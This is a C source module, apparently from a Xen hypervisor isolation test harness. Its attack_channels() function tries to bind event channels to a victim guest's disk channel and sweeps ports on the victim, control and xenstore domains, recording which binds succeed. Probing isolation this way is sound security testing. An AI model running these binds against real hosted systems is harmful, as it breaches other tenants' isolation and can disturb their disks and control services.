#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "attacker.h"

/* The kernel's device for event channels (xen/evtchn.h). */
struct bind_interdomain {
  unsigned remote_domain, remote_port;
};
struct bind_unbound {
  unsigned remote_domain;
};
#define BIND_INTERDOMAIN _IOC(_IOC_NONE, 'E', 1, sizeof(struct bind_interdomain))
#define BIND_UNBOUND _IOC(_IOC_NONE, 'E', 2, sizeof(struct bind_unbound))

#define SWEEP 256

static long bind_to(int device, unsigned domain, unsigned port) {
  struct bind_interdomain bind = {domain, port};
  return ioctl(device, BIND_INTERDOMAIN, &bind);
}

/* Every port that a small domain has. */
static void sweep(int device, const char *whose, unsigned domain) {
  char what[128];
  unsigned bound = 0;
  for (unsigned port = 1; port < SWEEP; port += 1)
    if (bind_to(device, domain, port) >= 0) bound += 1;
  snprintf(what, sizeof what, "bind to every port of %s", whose);
  answer(what, "%u bound", bound);
}

void attack_channels(const struct target *target) {
  int device = open("/dev/xen/evtchn", O_RDWR | O_CLOEXEC);
  answer("the device for event channels", "%s", outcome(device));
  if (device < 0) return;
  struct bind_unbound offer = {target->own};
  long own = ioctl(device, BIND_UNBOUND, &offer);
  answer("offer a port to itself", "%s", outcome(own));
  answer("bind to the port that is offered", "%s", outcome(bind_to(device, target->own, (unsigned)own)));
  answer("bind to the port of the victim's disk", "%s",
         outcome(bind_to(device, target->victim, target->disk_channel)));
  sweep(device, "the victim", target->victim);
  sweep(device, "the control domain", 0);
  sweep(device, "the xenstore domain", target->store);
  close(device);
}
